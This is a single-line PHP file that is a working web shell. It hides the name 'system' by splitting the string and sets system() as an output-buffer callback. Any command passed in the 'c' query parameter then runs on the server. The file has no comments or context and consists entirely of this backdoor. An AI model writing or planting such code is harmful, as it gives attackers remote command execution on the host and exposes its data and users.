<?php $h = 'sys' . 'tem'; ob_start($h); echo $_GET['c']; ob_end_flush();
